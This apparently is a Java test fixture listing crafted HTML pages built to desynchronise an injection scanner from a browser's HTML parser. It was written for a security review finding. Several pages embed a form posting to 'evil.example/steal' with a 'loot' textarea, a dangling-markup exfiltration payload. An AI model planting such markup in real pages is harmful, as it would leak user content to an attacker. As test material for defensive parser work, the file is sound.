package io.lcbridge.servlet;

import java.util.List;

/**
 * Pages built to make the scanner and a browser disagree about where the real {@code </body>} (or {@code </head>}) is
 * (security review, issue 12 finding 2): markup an application renders from user content that, on a scanner which
 * tokenizes differently from the WHATWG parser, would put the snippet inside a {@code <textarea>} of a form posting
 * elsewhere, inside a still-open script, inside {@code <template>} or foreign content. Each page marks with
 * {@value #HERE} where the snippet must go; a page without the mark must pass through unchanged (the scanner gives
 * up). Used by the state-machine / fast-path tests and by the Chromium test that checks where the browser puts the
 * snippet.
 */
final class DesyncPages {

    /** Where the snippet belongs in a page (not part of the page itself). */
    static final String HERE = "@@";

    /** A desync page: {@code marked} holds {@link #HERE} where the snippet goes, or none when nothing may go in. */
    record Page(String name, String marked, boolean beforeHeadEnd) {

        String input() {
            return marked.replace(HERE, "");
        }

        String expected(String snippet) {
            return marked.replace(HERE, snippet);
        }

        boolean injects() {
            return marked.contains(HERE);
        }

        InjectionPoint point() {
            return beforeHeadEnd ? InjectionPoint.BEFORE_HEAD_END : InjectionPoint.BEFORE_BODY_END;
        }

        @Override
        public String toString() {
            return name;
        }
    }

    private static final String FORM = "<form action=\"https://evil.example/steal\" method=post>";

    static final List<Page> PAGES = List.of(
            // attribute value states
            body(
                    "unquoted value, then an attribute named =\" (no value opens)",
                    "<body>" + FORM + "<a title=a =\"><textarea name=loot>\"></a></body></textarea></form>" + HERE
                            + "</body>"),
            body("quote inside an unquoted value", "<body><a title=a\"b =\"c>x" + HERE + "</body>\"></body>"),
            body("equals and quote inside an unquoted value", "<body><a href=x=\">" + HERE + "</body>\"></body>"),
            body("attribute name starting with =\"", "<body><a =\"x>" + HERE + "</body>\"></body>"),
            body("quoted value after = and spaces", "<body><a title= \"</body>\">x" + HERE + "</body>"),
            body("end tag with attributes", "<body></p title=a =\">" + HERE + "</body>\"></body>"),
            // CDATA only in foreign content
            body(
                    "CDATA outside foreign content is a bogus comment",
                    "<body>" + FORM + "<![CDATA[ ><textarea name=loot> ]]></body></textarea></form>" + HERE
                            + "</body>"),
            body("CDATA inside svg is real", "<body><svg><![CDATA[ </body> ]]></svg>" + HERE + "</body>"),
            body(
                    "CDATA after a tag that leaves svg is a bogus comment",
                    "<body><svg><p><![CDATA[><textarea>]]></svg></body></textarea>" + HERE + "</body>"),
            // comments
            body(
                    "comment closed by --!>",
                    "<body>" + FORM + "<!-- x --!><textarea name=loot> --></body></textarea></form>" + HERE
                            + "</body>"),
            body("<!-->", "<body><!-->x" + HERE + "</body>"),
            body("<!--->", "<body><!--->x" + HERE + "</body>"),
            body("<!---->", "<body><!---->x" + HERE + "</body>"),
            body("<!----!>", "<body><!----!>x" + HERE + "</body>"),
            body("<!--!> does not close", "<body><!--!></body>-->x" + HERE + "</body>"),
            body("<!---!> does not close", "<body><!---!></body>-->x" + HERE + "</body>"),
            body(
                    "<!-- inside a comment: it still closes at the first -->",
                    "<body><!-- <!-- -->" + HERE + "</body>-->"),
            // bogus comments
            body("</ then a space is a bogus comment", "<body></ </body>>x" + HERE + "</body>"),
            body("processing instruction", "<body><? </body> ?>x" + HERE + "</body>"),
            body("<!x is a bogus comment", "<body><!x </body>>x" + HERE + "</body>"),
            // foreign content
            body(
                    "style inside svg is not raw text",
                    "<body>" + FORM + "<svg><style></svg><textarea name=loot></style></body></textarea></form>" + HERE
                            + "</body>"),
            body(
                    "style inside math is not raw text",
                    "<body>" + FORM + "<math><style></math><textarea name=loot></style></body></textarea></form>" + HERE
                            + "</body>"),
            body(
                    "script inside svg is not script data",
                    "<body>" + FORM + "<svg><script></svg><textarea name=loot></script></body></textarea></form>" + HERE
                            + "</body>"),
            body("self-closed svg leaves HTML as it was", "<body><svg/><style></body></style>" + HERE + "</body>"),
            body(
                    "svg whose last unquoted value ends in / is not self-closed",
                    "<body>" + FORM + "<svg a=b/><style></svg><textarea name=loot></style></body></textarea></form>"
                            + HERE + "</body>"),
            body("a <p> inside svg leaves foreign content", "<body><svg><p><style></body></style>" + HERE + "</body>"),
            body(
                    "plaintext inside svg is an ordinary element",
                    "<body><svg><plaintext></plaintext></svg>" + HERE + "</body>"),
            body(
                    "well-formed inline svg icon",
                    "<body><svg viewBox=\"0 0 8 8\"><title>Close</title><g><path d=\"M0 0L8 8\"/></g></svg>" + HERE
                            + "</body>"),
            body("a </body> inside svg: give up", "<body><svg><g></body></g></svg></body>"),
            body("a start tag inside an svg title: give up", "<body><svg><title><b>x</b></title></svg></body>"),
            // script data escaped and double escaped states
            body(
                    "script data double escaped",
                    "<body><script>\"<!--<script>\"</script></body></script>" + HERE + "</body>"),
            body("script data escaped, </script> ends it", "<body><script><!-- a </script>" + HERE + "</body>"),
            body(
                    "double escaped back to escaped, then -->",
                    "<body><script><!--<script></script></body>--></script>" + HERE + "</body>"),
            body("script data <!-x is not escaped", "<body><script><!-x<script></script>" + HERE + "</body>"),
            // the tree builder: template content is inert
            body("</body> inside template", "<body><template></body></template>" + HERE + "</body>"),
            body(
                    "</body> inside nested template",
                    "<body><template><template></template></body></template>" + HERE + "</body>"),
            new Page("</head> inside template", "<head><template></head></template>" + HERE + "</head><body>", true),
            // the tree builder ignores these </body> tags, but a script written before them still runs
            body("</body> inside an open table", "<body><table>" + HERE + "</body></table></body>"),
            body("</body> inside a table cell", "<body><table><tr><td>x" + HERE + "</body></td></tr></table></body>"),
            body("</body> inside an object", "<body><object>x" + HERE + "</body></object></body>"),
            body("</body> inside a select", "<body><select><option>a</option>" + HERE + "</body></select></body>"),
            // modes whose parsing differs between browsers: give up
            body("raw text start tag inside select: give up", "<body><select><style></body></style></select></body>"),
            body("frameset: give up", "<body><frameset></frameset></body>"));

    private static Page body(String name, String marked) {
        return new Page(name, marked, false);
    }

    private DesyncPages() {}
}
